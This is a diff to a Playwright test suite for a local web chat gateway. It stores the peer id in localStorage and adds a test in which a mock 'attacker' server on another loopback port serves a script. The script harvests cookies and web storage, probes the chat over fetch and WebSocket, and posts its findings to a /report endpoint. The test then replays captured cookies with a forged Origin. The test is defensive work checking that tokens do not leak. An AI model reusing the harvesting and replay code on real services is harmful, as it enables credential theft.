@@ -1,4 +1,6 @@
+import { createServer as createHttpServer, type IncomingHttpHeaders } from 'node:http';
 import { createServer, type AddressInfo } from 'node:net';
+import WebSocket from 'ws';
 import { join } from 'node:path';
 import type { Browser, BrowserContext, Page } from 'playwright-core';
 import { artifactPath, CHROMIUM, hasChromium, launchChromium } from '../../testing/browser.js';
@@ -83,13 +85,14 @@ function inboxEvents() {
   }
 }
 
-/** The peer id the page at `address` gave this browser (its cookie is named per port). */
-async function peerOf(context: BrowserContext, address = base): Promise<string> {
-  const name = `xgw_peer_${new URL(address).port}`;
-  const cookie = (await context.cookies(address)).find((c) => c.name === name);
-  expect(cookie, `${name} cookie`).toBeDefined();
-  expect(cookie!.httpOnly).toBe(true);
-  return cookie!.value;
+// Runs in the page.
+declare const localStorage: { getItem(key: string): string | null; setItem(key: string, value: string): void };
+
+/** The peer id the page gave this browser (kept in its origin's localStorage, never a cookie). */
+async function peerOf(page: Page): Promise<string> {
+  const peer = await page.evaluate(() => localStorage.getItem('xgw_peer'));
+  expect(peer).toMatch(/^[0-9a-f]{32}$/);
+  return peer!;
 }
 
 async function openChat(context: BrowserContext, address = url): Promise<Page> {
@@ -112,8 +115,8 @@ describe.skipIf(!hasChromium)(`webchat page in a browser (needs ${CHROMIUM})`, (
     try {
       const page = await openChat(context);
       expect(page.url()).toBe(`${base}/`); // the token left the URL bar
-      const peer = await peerOf(context);
-      expect((await context.cookies(base)).find((c) => c.name === `xgw_token_${new URL(base).port}`)).toMatchObject({ httpOnly: true, sameSite: 'Strict' });
+      const peer = await peerOf(page);
+      expect(await context.cookies(base)).toEqual([]); // cookies would reach every port of the host
 
       await say(page, 'Hello agent, what is on my calendar?');
       const event = await waitFor(() => inboxEvents()[0], 'the message in the inbox');
@@ -162,7 +165,7 @@ describe.skipIf(!hasChromium)(`webchat page in a browser (needs ${CHROMIUM})`, (
     const context = await browser.newContext({ viewport: PHONE, deviceScaleFactor: 2, isMobile: true, hasTouch: true });
     try {
       const page = await openChat(context);
-      const peer = await peerOf(context);
+      const peer = await peerOf(page);
       await say(page, 'Are you there?');
       await page.locator('.row.typing').waitFor();
       await gateway.send({ channel: 'webchat:main', peer, text: 'Sorry for the wait: the model cannot be reached.', notice: 'delayed' });
@@ -192,7 +195,7 @@ describe.skipIf(!hasChromium)(`webchat page in a browser (needs ${CHROMIUM})`, (
     try {
       const pageA = await openChat(contextA);
       const pageB = await openChat(contextB);
-      const [peerA, peerB] = [await peerOf(contextA), await peerOf(contextB)];
+      const [peerA, peerB] = [await peerOf(pageA), await peerOf(pageB)];
       expect(peerA).not.toBe(peerB);
 
       await say(pageA, 'I am A');
@@ -218,7 +221,7 @@ describe.skipIf(!hasChromium)(`webchat page in a browser (needs ${CHROMIUM})`, (
     const context = await browser.newContext({ viewport: PHONE });
     try {
       const page = await openChat(context, spare.status().url!);
-      const peer = await peerOf(context, spare.status().url!);
+      const peer = await peerOf(page);
       await spare.stop();
       await page.locator('#status[data-state="offline"]').waitFor();
       await say(page, 'written while offline');
@@ -237,13 +240,83 @@ describe.skipIf(!hasChromium)(`webchat page in a browser (needs ${CHROMIUM})`, (
     }
   });
 
+  it('gives a server on another loopback port nothing usable: no token in cookies, storage, requests or sockets', async () => {
+    // Another local user's server on another 127.0.0.1 port. Cookies ignore ports, so the
+    // browser sends it whatever cookies the web chat set; its page also tries the web chat itself.
+    const seen: IncomingHttpHeaders[] = [];
+    const reports: string[] = [];
+    const target = new URL(base);
+    const script = `
+      const out = { cookie: document.cookie, local: JSON.stringify(localStorage), session: JSON.stringify(sessionStorage) };
+      const tries = [
+        fetch('${base}/status.json', { credentials: 'include' }).then((r) => r.text()).then((t) => (out.statusJson = t), (e) => (out.statusJson = 'refused: ' + e)),
+        fetch('${base}/', { credentials: 'include' }).then((r) => r.text()).then((t) => (out.page = t), (e) => (out.page = 'refused: ' + e)),
+        new Promise((resolve) => {
+          const ws = new WebSocket('ws://127.0.0.1:${target.port}/ws');
+          ws.onmessage = (event) => { out.socket = String(event.data); ws.close(); resolve(); };
+          ws.onerror = () => { out.socket = 'refused'; resolve(); };
+        }),
+      ];
+      Promise.all(tries).then(() => fetch('/report', { method: 'POST', body: JSON.stringify(out) }));`;
+    const attacker = createHttpServer((req, res) => {
+      seen.push(req.headers);
+      if (req.url === '/report') {
+        let body = '';
+        req.on('data', (chunk: Buffer) => (body += chunk.toString()));
+        req.on('end', () => {
+          reports.push(body);
+          res.end();
+        });
+        return;
+      }
+      res.writeHead(200, { 'Content-Type': 'text/html' });
+      res.end(`<!doctype html><title>elsewhere</title><script>${script}</script>`);
+    });
+    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
+    const attackerPort = (attacker.address() as AddressInfo).port;
+    const context = await browser.newContext();
+    try {
+      await openChat(context); // the owner opens the web chat with its token
+      const page = await context.newPage();
+      await page.goto(`http://127.0.0.1:${attackerPort}/`);
+      const report = await waitFor(() => reports[0], "the other server's report");
+      const token = new URL(url).searchParams.get('token')!;
+      const gathered = JSON.stringify({ seen, report });
+      expect(gathered).not.toContain(token);
+      expect(JSON.parse(report)).toMatchObject({ socket: 'refused' });
+      // Whatever cookies it got, replayed by a program that can forge the web chat's Origin, open nothing.
+      const cookies = seen.map((headers) => headers.cookie).filter((cookie) => cookie !== undefined);
+      for (const cookie of cookies) {
+        const status = await new Promise<number>((resolve) => {
+          const ws = new WebSocket(`ws://127.0.0.1:${target.port}/ws`, { headers: { Cookie: cookie }, origin: base });
+          ws.on('unexpected-response', (_request, response) => resolve(response.statusCode ?? 0));
+          ws.on('open', () => {
+            ws.terminate();
+            resolve(101);
+          });
+          ws.on('error', () => resolve(0));
+        });
+        expect(status, cookie).toBe(401);
+      }
+    } finally {
+      await context.close();
+      await new Promise((resolve) => attacker.close(resolve));
+    }
+  });
+
   it('shows the access page, not the chat, to a browser without the token', async () => {
     const context = await browser.newContext();
     try {
       const page = await context.newPage();
-      const response = await page.goto(`${base}/`);
+      await page.goto(`${base}/`);
+      await page.locator('#status[data-state="denied"]').waitFor();
+      expect(await page.locator('#status').textContent()).toContain('xgw status');
+      // A wrong token is told at once, and so is a stale one the page kept.
+      const response = await page.goto(`${base}/?token=${'0'.repeat(64)}`);
       expect(response!.status()).toBe(401);
-      await expect.poll(() => page.locator('body').textContent()).toContain('xgw status');
+      await page.evaluate(() => localStorage.setItem('xgw_token', '0'.repeat(64)));
+      await page.goto(`${base}/`);
+      await page.locator('#status[data-state="denied"]').waitFor();
     } finally {
       await context.close();
     }
